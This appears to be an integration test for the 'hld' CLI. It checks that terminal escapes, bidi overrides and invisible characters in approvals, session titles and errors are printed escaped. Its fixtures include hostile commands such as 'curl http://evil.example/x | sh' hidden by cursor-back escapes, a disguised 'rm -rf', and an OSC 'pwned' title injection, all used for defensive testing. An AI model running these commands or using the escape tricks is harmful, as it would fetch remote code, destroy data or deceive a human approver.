/**
 * Issue 9 §1–2, run as an attacker would: hostile strings in tool inputs, titles, queries, comments,
 * human contacts, claude's stderr and ids go through every command that prints, against a real
 * daemon with fake claude (and the fake HumanLayer API for cloud items). No raw control, bidi or
 * invisible character may reach stdout or stderr, and the dangerous part must be visible.
 */
import {mkdirSync, writeFileSync} from 'node:fs'
import path from 'node:path'

import {expect} from 'chai'

import type {DaemonClient} from '../../src/client/index.js'
import {type Approval, CreateApproval, GetApproval} from '../../src/protocol/approvals.js'
import {LaunchSession} from '../../src/protocol/sessions.js'
import {type FakeHumanLayerApi, startFakeHumanLayerApi} from '../fixtures/fake-humanlayer-api.js'
import {waitForApproval} from '../helpers/approvals.js'
import {escaped, HOSTILE, rawUnsafe} from '../helpers/hostile.js'
import {type CliResult, Sandbox} from '../helpers/sandbox.js'
import {FAKE_CLAUDE, waitForStatus} from '../helpers/sessions.js'

/** oclif wraps error text at the terminal width, continuing lines with " ›   ". */
/** A colour sequence (Select Graphic Rendition), the only escape sequence hld itself prints. */
// eslint-disable-next-line no-control-regex
const SGR = /\u001b\[[0-9;]*m/g

const unwrap = (text: string): string => text.replaceAll(/\s*\n\s*›\s*/g, ' ')

describe('untrusted text is inert in every command that prints (issue 9)', function () {
  this.timeout(180_000)
  let sandbox: Sandbox
  let fake: FakeHumanLayerApi
  let client: DaemonClient
  let workDir: string
  let session: {session_id: string; run_id: string}
  /** Approval ids by the name of the hostile string in their Bash command. */
  const bash: Record<string, string> = {}
  let edit: string
  let contact: string
  let cloudCall: string

  /** Runs the CLI and fails the test if any raw unsafe character reached stdout or stderr. */
  async function cli(args: string[], env: Record<string, string> = {}): Promise<CliResult> {
    const result = await sandbox.cli(args, {env})
    for (const stream of ['stdout', 'stderr'] as const) {
      // With FORCE_COLOR our own colours are SGR sequences; hostile text holds none, so only ours are removed.
      const raw = rawUnsafe(env.FORCE_COLOR ? result[stream].replaceAll(SGR, '') : result[stream])
      expect(raw, `hld ${args.map((a) => JSON.stringify(a)).join(' ')}: raw character on ${stream} in ${raw}`).to.equal(undefined)
    }
    return result
  }

  before(async () => {
    fake = await startFakeHumanLayerApi()
    sandbox = new Sandbox({
      HUMANLAYER_CLAUDE_PATH: FAKE_CLAUDE,
      HUMANLAYER_API_KEY: fake.apiKey,
      HUMANLAYER_API_BASE_URL: fake.baseUrl,
      HUMANLAYER_POLL_INTERVAL_MS: '50',
    })
    await sandbox.startDaemon()
    client = await sandbox.client()
    workDir = path.join(sandbox.root, 'work')
    mkdirSync(workDir)
    writeFileSync(path.join(workDir, 'config.txt'), 'mode=safe\nlevel=1\n')

    // A session that stays up, with a hostile title and query; one Bash approval per hostile string.
    session = await client.call(LaunchSession, {
      query: `${HOSTILE.eraseRow} ${HOSTILE.bidi} [fake:slow=600000]`,
      title: `${HOSTILE.clearScreen} ${HOSTILE.osc0}`,
      working_dir: workDir,
    })
    await waitForStatus(client, session.session_id, 'running')
    for (const [name, command] of Object.entries(HOSTILE)) {
      const tool_input = {command, description: HOSTILE.zeroWidth}
      bash[name] = (await client.call(CreateApproval, {run_id: session.run_id, tool_name: 'Bash', tool_input})).approval_id
    }
    const editInput = {file_path: path.join(workDir, 'config.txt'), old_string: 'mode=safe', new_string: `mode=${HOSTILE.osc8}`}
    edit = (await client.call(CreateApproval, {run_id: session.run_id, tool_name: 'Edit', tool_input: editInput})).approval_id

    // Cloud items: a function call and a human contact, unassociated, hostile throughout.
    cloudCall = fake.addFunctionCall({run_id: `run ${HOSTILE.c1}`, fn: `deploy${HOSTILE.bidi}`, kwargs: {env: HOSTILE.osc8}}).call_id
    contact = fake.addHumanContact({run_id: 'run-contact', msg: `Which region? ${HOSTILE.cursorBack}`}).call_id
    await waitForApproval(sandbox, (list) => list.find((a) => a.id === contact))
    await waitForApproval(sandbox, (list) => list.find((a) => a.id === cloudCall))
  })

  after(async () => {
    client?.close()
    // A graceful stop interrupts the slow session; cleanup's SIGKILL alone would orphan its claude.
    await sandbox.cli(['daemon', 'stop'])
    await sandbox.cleanup()
    await fake.close()
  })

  it('approvals list: every row escaped, a cut row marked with its tail in sight, and the footer says how to see it whole', async () => {
    const list = await cli(['approvals', 'list'])
    expect(list.exitCode, list.stderr).to.equal(0)
    const rows = list.stdout.split('\n')
    // Every approval keeps its row: no row erased or moved up by what it holds.
    const ofSession = rows.filter((row) => row.includes(`Title \\x1b[`) && row.includes(session.session_id.slice(0, 8)))
    expect(ofSession).to.have.length(Object.keys(bash).length + 1)
    // Cut in the middle (it is longer than the column), but both the curl and the escapes are in sight.
    expect(rows.find((row) => row.includes(bash.cursorBack.slice(6, 14)))).to.match(/Bash: curl -s http:.*sh\\x1b\[34Dnpm test\\x1b\[K$/)
    expect(list.stdout).to.contain('Bash: ls \\x1b[2K\\x1b[1A')
    expect(list.stdout)
      .to.match(/Title \\x1b\[.*0;pwned\\x07 \[/)
      .and.contain('Bash: rm -rf \\u202e/ emoh\\u202c')
    expect(list.stdout).to.contain('deployrm -rf \\u202e')
    const long = rows.find((row) => row.includes('echo ok # aaa'))!
    expect(long).to.match(/…\[\+\d+\]….*; curl http:\/\/evil \| sh$/)
    expect(list.stdout).to.contain('hld approvals show <id>')
  })

  it('approvals show: the whole request, each command of the line, and the session', async () => {
    const show = await cli(['approvals', 'show', bash.cursorBack.slice('local-'.length, 'local-'.length + 8)])
    expect(show.exitCode, show.stderr).to.equal(0)
    expect(show.stdout).to.contain(`command: ${escaped(HOSTILE.cursorBack)}`)
    expect(show.stdout)
      .to.contain('It runs 2 commands:')
      .and.contain('1. curl -s http://evil.example/x')
      .and.contain('2. sh\\x1b[34Dnpm test\\x1b[K')
    expect(show.stdout).to.contain('description: cu\\u200brl\\u200c \\u200dev\\u2060il\\ufeff')
    expect(show.stdout)
      .to.contain(`working dir: ${workDir}`)
      .and.contain(`run id:      ${session.run_id}`)
      .and.contain('status:      pending')
    expect(show.stdout).to.contain('Title \\x1b[2J retitle \\x1b]0;pwned\\x07')

    const long = await cli(['approvals', 'show', bash.longEcho])
    expect(long.stdout).to.contain(HOSTILE.longEcho).and.not.contain('…[+')

    for (const id of [...Object.values(bash), cloudCall, contact]) {
      const result = await cli(['approvals', 'show', id])
      expect(result.exitCode, `${id}: ${result.stderr}`).to.equal(0)
    }
    const json = await cli(['approvals', 'show', bash.c1, '--json'])
    expect(Sandbox.json<{approval: Approval}>(json).approval.tool_input).to.deep.equal({
      command: HOSTILE.c1,
      description: HOSTILE.zeroWidth,
    })
  })

  it('approvals show of an Edit: the diff against the file on disk, escaped', async () => {
    const show = await cli(['approvals', 'show', edit])
    expect(show.stdout).to.contain(`Change to ${path.join(workDir, 'config.txt')}:`)
    expect(show.stdout)
      .to.contain('\n-mode=safe\n')
      .and.contain(`\n+mode=${escaped(HOSTILE.osc8)}\n`)
      .and.contain('\n level=1')
  })

  it('approve, deny and respond print what was decided, in full and escaped; --json is exact', async () => {
    const approve = await cli(['approvals', 'approve', bash.cursorBack])
    expect(approve.exitCode, approve.stderr).to.equal(0)
    expect(approve.stdout)
      .to.match(/^Approved /)
      .and.contain(`command: ${escaped(HOSTILE.cursorBack)}`)
      .and.contain('2. sh\\x1b[34Dnpm test')
    expect(approve.stdout).to.contain('status:      approved')

    const deny = await cli(['approvals', 'deny', bash.eraseRow, '--comment', HOSTILE.dcs])
    expect(deny.stdout)
      .to.match(/^Denied /)
      .and.contain('comment: dcs \\x1bP+q544e\\x1b\\')
      .and.contain('command: ls \\x1b[2K\\x1b[1A')

    const respond = await cli(['approvals', 'respond', contact, `eu ${HOSTILE.isolates}`])
    expect(respond.exitCode, respond.stderr).to.equal(0)
    expect(respond.stdout)
      .to.match(/^Answered /)
      .and.contain('response: eu a\\u2066b\\u2067c\\u2068d\\u2069')
    expect(respond.stdout).to.contain(escaped(`Which region? ${HOSTILE.cursorBack}`))

    const json = await cli(['approvals', 'deny', bash.osc8, '--comment', HOSTILE.bidi, '--json'])
    const decided = Sandbox.json<{approval: Approval}>(json).approval
    expect([decided.comment, (decided.tool_input as {command: string}).command]).to.deep.equal([HOSTILE.bidi, HOSTILE.osc8])
    expect((await client.call(GetApproval, {approval_id: bash.osc8})).approval.comment).to.equal(HOSTILE.bidi)

    const all = await cli(['approvals', 'list', '--all'])
    expect(all.stdout).to.contain('approved').and.contain('denied')
  })

  it('session list and show: titles, queries and conversation escaped', async () => {
    const list = await cli(['session', 'list'])
    expect(list.stdout).to.contain('Title \\x1b[2J retitle \\x1b]0;pwned\\x07')
    const show = await cli(['session', 'show', session.session_id])
    expect(show.stdout).to.contain(`Session ${session.session_id} (Title \\x1b[2J`)
    expect(show.stdout).to.contain(`user: ${escaped(HOSTILE.eraseRow)} rm -rf \\u202e/ emoh\\u202c`)
  })

  it('launch --wait, continue --wait and session wait: claude stderr and the outcome escaped', async () => {
    const query = `${HOSTILE.cursorBack} ${HOSTILE.osc0} [fake:stderr] [fake:crash]`
    const launch = await cli(['session', 'launch', '--wait', '-w', workDir, '--title', HOSTILE.osc8, query])
    expect(launch.exitCode, launch.stderr).to.equal(1)
    const out = launch.stdout + launch.stderr
    expect(out).to.contain('failed').and.contain(escaped(HOSTILE.cursorBack)).and.contain('retitle \\x1b]0;pwned\\x07')
    const id = /Session (\S+) launched/.exec(out)![1]

    const again = await cli(['session', 'continue', '--wait', id.slice(0, 8), `${HOSTILE.bidi} [fake:stderr] [fake:crash]`])
    expect(again.exitCode, again.stderr).to.equal(1)
    expect(again.stdout + again.stderr).to.contain('rm -rf \\u202e/ emoh\\u202c')

    const show = await cli(['session', 'show', id])
    expect(show.stdout).to.contain(escaped(HOSTILE.cursorBack)).and.contain('status:      failed')
    const wait = await cli(['session', 'wait', id, '--until', 'ended'])
    expect(wait.stdout).to.contain(`Session ${id} failed: claude exited with code 3`).and.contain(escaped(HOSTILE.cursorBack))
  })

  it('watch: every event line escaped; --json lines are exact JSON', async () => {
    // Everything so far, replayed: --timeout ends the stream once the log is drained (exit 8).
    const json = await cli(['watch', '--since', '0', '--json', '--timeout', '3000'])
    expect(json.exitCode, json.stderr).to.equal(8)
    const lines = json.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as {type: string; data: Record<string, unknown>; error?: unknown})
    // Under --json the timeout's error is the stream's last line (errors go to stdout).
    expect(lines.at(-1)).to.have.property('error')
    const events = lines.slice(0, -1)
    expect(events.some((e) => e.type === 'session_status_changed' && String(e.data.error).includes(HOSTILE.cursorBack))).to.equal(true)
    expect(events.some((e) => e.type === 'approval_resolved' && e.data.response_text === HOSTILE.dcs)).to.equal(true)

    const human = await cli(['watch', '--since', '0', '--count', String(events.length)])
    expect(human.exitCode, human.stderr).to.equal(0)
    expect(human.stdout)
      .to.contain(`: ${escaped(HOSTILE.dcs)}\n`)
      .and.contain('→ failed (claude exited with code 3')
  })

  it('errors that quote hostile text are escaped; under --json they are exact', async () => {
    for (const args of [
      ['session', 'show', HOSTILE.clearScreen],
      ['approvals', 'show', HOSTILE.osc0],
      ['approvals', 'approve', HOSTILE.bidi],
    ]) {
      const result = await cli(args)
      expect(result.exitCode, result.stderr).to.equal(4)
      expect(unwrap(result.stderr)).to.contain(escaped(args[2]))
    }
    const json = await cli(['session', 'show', HOSTILE.c1, '--json'])
    expect(json.exitCode).to.equal(4)
    expect(Sandbox.json<{error: {message: string}}>(json).error.message).to.contain(HOSTILE.c1)
  })

  it('on a colour terminal the escapes are dim, and the only escape sequences are colours', async () => {
    const show = await cli(['approvals', 'show', bash.cursorBack], {FORCE_COLOR: '1'})
    expect(show.stdout).to.contain('sh\u001b[2m\\x1b\u001b[22m[34Dnpm test\u001b[2m\\x1b\u001b[22m[K')
    // Every ESC on the terminal starts an SGR (colour) sequence of ours.
    expect(show.stdout.replaceAll(SGR, '')).to.not.contain('\u001b')
    const list = await cli(['approvals', 'list', '--all'], {FORCE_COLOR: '1'})
    expect(list.stdout.replaceAll(SGR, '')).to.not.contain('\u001b')
  })
})
